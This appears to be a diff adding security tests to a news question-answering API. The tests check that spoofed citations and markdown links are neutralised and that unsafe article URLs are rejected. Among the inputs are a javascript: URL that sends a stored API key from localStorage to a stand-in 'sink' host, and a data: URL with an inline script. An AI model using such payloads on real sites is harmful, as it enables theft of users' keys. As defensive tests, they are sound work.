@@ -67,3 +67,44 @@ def test_readyz_does_not_show_the_data_directory_path(tmp_path: Path, seeded_eng
     detail = ready.json()["detail"]
     assert "secret-place" not in detail and str(tmp_path) not in detail
     assert "$NEWSQA_DATA_DIR" in detail
+
+
+SPOOF = (
+    "The Zorblax toaster was designed by Mara Quill in Oslo [3][12]. "
+    "The Zorblax toaster uses entangled crumbs [1](https://evil.example) to brown bread evenly. "
+    "Critics said the Zorblax toaster costs far too much for a kitchen appliance of its kind."
+)
+
+
+def test_article_text_cannot_pose_as_citations_or_links(client: TestClient) -> None:
+    """Probe M5: fake markers and markdown links in an article reach users as plain text; offsets stay verbatim."""
+    posted = client.post("/v1/articles", json={"text": SPOOF, "title": "Zorblax", "url": "https://news.example/z"})
+    assert posted.status_code == 201, posted.text
+    stored = client.get(f"/v1/articles/{posted.json()['id']}").json()["text"]
+    answer = client.post("/v1/ask", json={"question": "Who designed the Zorblax toaster?"}).json()
+    assert answer["citations"], answer
+    for c in answer["citations"]:
+        assert "[" not in c["quote"] and "](" not in c["quote"], c["quote"]
+    assert "Oslo (3)(12)." in answer["answer"] and "[12]" not in answer["answer"]
+    assert "](" not in answer["answer"]
+    quoted = next(c for c in answer["citations"] if "Oslo" in c["quote"])
+    assert stored[quoted["start"] : quoted["end"]].endswith("Oslo [3][12].")  # verbatim in the store
+    assert quoted["quote"].endswith("Oslo (3)(12).")  # neutralised as sent
+    openai = client.post(
+        "/v1/chat/completions",
+        json={"model": "newsqa", "messages": [{"role": "user", "content": "What do Zorblax toasters use?"}]},
+    ).json()
+    content = openai["choices"][0]["message"]["content"]
+    assert "entangled crumbs (1)(https://evil.example)" in content and "](https://evil" not in content
+
+
+def test_article_urls_are_http_only_and_without_credentials(client: TestClient) -> None:
+    """Probe M6 and L8: a javascript: url was stored and became a link; credentials were stored and shown."""
+    for url, words in (
+        ("javascript:fetch('http://sink/?k='+localStorage.getItem('newsqa-key'))", "http:// or https://"),
+        ("data:text/html,<script>alert(1)</script>", "http:// or https://"),
+        ("https://user:secretpw@news.example/a", "user name or password"),
+    ):
+        response = client.post("/v1/articles", json={"text": SPOOF, "url": url})
+        assert response.status_code == 422, url
+        assert words in response.json()["error"]["message"] and "secretpw" not in response.text
